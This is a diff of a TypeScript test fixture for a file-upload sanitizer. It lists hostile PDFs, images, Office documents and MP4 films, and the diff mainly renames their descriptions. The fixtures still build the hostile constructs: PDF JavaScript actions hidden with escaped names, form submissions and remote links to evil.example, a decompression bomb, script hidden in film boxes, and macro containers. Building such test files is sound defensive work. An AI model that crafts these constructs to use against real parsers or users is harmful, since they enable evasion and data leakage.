@@ -113,16 +113,16 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
   evidence('a PDF that runs a script when it is opened', ACTIVE, () =>
     opening('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
   ),
-  evidence('a PDF that hides that in the spelling', ACTIVE, () =>
+  evidence('a PDF that runs a script under escaped names', ACTIVE, () =>
     opening('<< /S /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>'),
   ),
-  evidence('a PDF with the script in a packed object', ACTIVE, () =>
+  evidence('a PDF with the script in a compressed object', ACTIVE, () =>
     pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.from(SCRIPTED)))),
   ),
-  evidence('a PDF with objects in another packing', PROTECTED, () =>
+  evidence('a PDF with objects in an unsupported encoding', PROTECTED, () =>
     pdf(undefined, objects('/ASCIIHexDecode', Buffer.from(Buffer.from(SCRIPTED).toString('hex')))),
   ),
-  evidence('a PDF with objects packed twice', PROTECTED, () =>
+  evidence('a PDF with objects encoded twice', PROTECTED, () =>
     pdf(
       undefined,
       objects(
@@ -138,39 +138,39 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
   evidence('a PDF that sends a form', ACTIVE, () =>
     opening('<< /S /SubmitForm /F (https://evil.example/) >>'),
   ),
-  evidence('a PDF that opens another one elsewhere', ACTIVE, () =>
+  evidence('a PDF that opens a PDF on another server', ACTIVE, () =>
     opening('<< /S /GoToR /F (//evil.example/a.pdf) >>'),
   ),
-  evidence('a PDF with a form of XFA', ACTIVE, () => opening('<< /XFA 7 0 R >>')),
-  evidence('a PDF cut off', DAMAGED, () => pdf().subarray(0, 300)),
+  evidence('a PDF with an XFA form', ACTIVE, () => opening('<< /XFA 7 0 R >>')),
+  evidence('a truncated PDF', DAMAGED, () => pdf().subarray(0, 300)),
   evidence('a PDF of 300 pages', 'disarmed', () => manyPages(300), { mustVanish: [AUTHOR] }),
-  evidence('a PDF whose packed object unpacks to 300 MB', PROTECTED, () =>
+  evidence('a PDF whose compressed object expands to 300 MB', PROTECTED, () =>
     pdf(undefined, objects('/FlateDecode', deflateSync(Buffer.alloc(300 * 1024 * 1024)))),
   ),
   evidence('a PDF of 19 MB of escaped letters', 'disarmed', escapedLetters, {
     mustVanish: [AUTHOR],
   }),
-  evidence('a PDF whose packed objects overlap', PROTECTED, overlapping),
+  evidence('a PDF whose compressed objects overlap', PROTECTED, overlapping),
   evidence('a picture of 256 megapixels', { status: 422, cause: 'too_many_pixels' }, vast, {
     name: 'vast.png',
   }),
   evidence('a PNG with a wrong checksum', DAMAGED, brokenCheck, { name: 'a.png' }),
-  evidence('a long animation in WebP', 'disarmed', hugeAnimation, {
+  evidence('a long WebP animation', 'disarmed', hugeAnimation, {
     name: 'a.webp',
     mustVanish: ['ANIM', 'ANMF'],
   }),
   evidence(
-    'a JPEG with its place, as evidence',
+    'a JPEG with its location, as evidence',
     'disarmed',
     () => picture().jpeg().withExif(EXIF).toBuffer(),
     { name: 'a.jpg', mustVanish: [SECRET_PLACE, 'Exif'] },
   ),
-  evidence('a picture that says it is a document', 'disarmed', () => jpeg(), {
+  evidence('a picture with the name and type of a document', 'disarmed', () => jpeg(), {
     name: 'contract.pdf.jpg.docx',
     type: 'application/pdf',
   }),
   evidence(
-    'a GIF that is a script as well',
+    'a GIF that is also a script',
     'disarmed',
     async () =>
       Buffer.concat([
@@ -182,11 +182,11 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
   evidence('TIFF as evidence', WRONG_TYPE, () => picture(64, 64).tiff().toBuffer(), {
     name: 'scan.tiff',
   }),
-  evidence('a document inside of which another one carries macros', ACTIVE, () =>
+  evidence('a document with an embedded OLE object', ACTIVE, () =>
     docx([part('word/embeddings/oleObject1.bin', 'x')]),
   ),
   evidence(
-    'an old Word document with a project of macros',
+    'an old Word document with a VBA project',
     ACTIVE,
     () => doc(['WordDocument', 'VBA', '_VBA_PROJECT']),
     { name: 'a.doc' },
@@ -195,34 +195,39 @@ export const HOSTILE_EVIDENCE: readonly HostileFile[] = [
 
 /** For uploads in parts, because the other upload accepts no films. */
 export const HOSTILE_FILMS: readonly HostileFile[] = [
-  evidence('a film that tells its place in six ways', 'disarmed', () => film(), {
+  evidence('a film with its location in six places', 'disarmed', () => film(), {
     mustVanish: [SECRET_PLACE, 'ISO6709', 'Phone of'],
   }),
-  evidence('a film with a page behind it', 'disarmed', () => film({ end: box('free', SCRIPT) }), {
+  evidence('a film with HTML in a free box', 'disarmed', () => film({ end: box('free', SCRIPT) }), {
     mustVanish: ['<script>'],
   }),
   evidence(
-    'a film with a page in a box that nobody knows',
+    'a film with HTML in unknown boxes',
     'disarmed',
     () => film({ moovMore: box('evil', SCRIPT), end: box('html', SCRIPT) }),
     { mustVanish: ['<script>'] },
   ),
-  evidence('a film with places under the subtitles', 'disarmed', () => film({ second: 'sbtl' }), {
-    mustVanish: [SECRET_PLACE],
-  }),
-  evidence('a film cut off', DAMAGED, () =>
+  evidence(
+    'a film with locations in a subtitle track',
+    'disarmed',
+    () => film({ second: 'sbtl' }),
+    {
+      mustVanish: [SECRET_PLACE],
+    },
+  ),
+  evidence('a truncated film', DAMAGED, () =>
     film({ picture: Buffer.alloc(5_000) }).subarray(0, 4_000),
   ),
   evidence('a film without the end of its index', DAMAGED, () => film().subarray(0, -30)),
-  evidence('a film of a brand that does not exist', WRONG_TYPE, () => film({ brand: 'evil' })),
-  evidence('a picture of Apple in the boxes of a film', WRONG_TYPE, () => film({ brand: 'heic' })),
-  evidence('a film with bytes behind its boxes', DAMAGED, () =>
+  evidence('a film of an unknown brand', WRONG_TYPE, () => film({ brand: 'evil' })),
+  evidence('a HEIC file in the boxes of a film', WRONG_TYPE, () => film({ brand: 'heic' })),
+  evidence('a film with bytes after its boxes', DAMAGED, () =>
     film({ end: Buffer.from('<html>') }),
   ),
-  evidence('a film whose track lies elsewhere', ACTIVE, () =>
+  evidence('a film whose track refers to another server', ACTIVE, () =>
     film({ dref: box('url ', uint32(0), 'https://evil.example/who-looks.mp4\0') }),
   ),
-  evidence('a film of places alone', 'disarmed', () => film({ picture: Buffer.alloc(0) }), {
+  evidence('a film with location data only', 'disarmed', () => film({ picture: Buffer.alloc(0) }), {
     mustVanish: [SECRET_PLACE],
   }),
   evidence(
@@ -235,18 +240,16 @@ export const HOSTILE_FILMS: readonly HostileFile[] = [
         box('moov', box('udta', SCRIPT)),
       ]),
   ),
-  evidence(
-    'a film in fragments that records places as well',
-    { status: 422, cause: 'protected_film' },
-    () => film({ moovMore: box('mvex', box('trex', uint32(0))) }),
+  evidence('a fragmented film with location data', { status: 422, cause: 'protected_film' }, () =>
+    film({ moovMore: box('mvex', box('trex', uint32(0))) }),
   ),
   evidence('a film with two indexes', DAMAGED, () =>
     film({ end: box('moov', box('udta', SCRIPT)) }),
   ),
-  evidence('a film whose box says it is 2^60 bytes long', DAMAGED, () =>
+  evidence('a film with a box of 2^60 stated bytes', DAMAGED, () =>
     film({ end: Buffer.concat([uint32(1), Buffer.from('free'), uint32(0x10_00_00_00, 0)]) }),
   ),
-  evidence('a film whose box says it is 3 bytes long', DAMAGED, () =>
+  evidence('a film with a box of 3 stated bytes', DAMAGED, () =>
     film({ end: Buffer.concat([uint32(3), Buffer.from('free')]) }),
   ),
   evidence('a film of 30,000 empty boxes', { status: 422, cause: 'protected_film' }, () =>
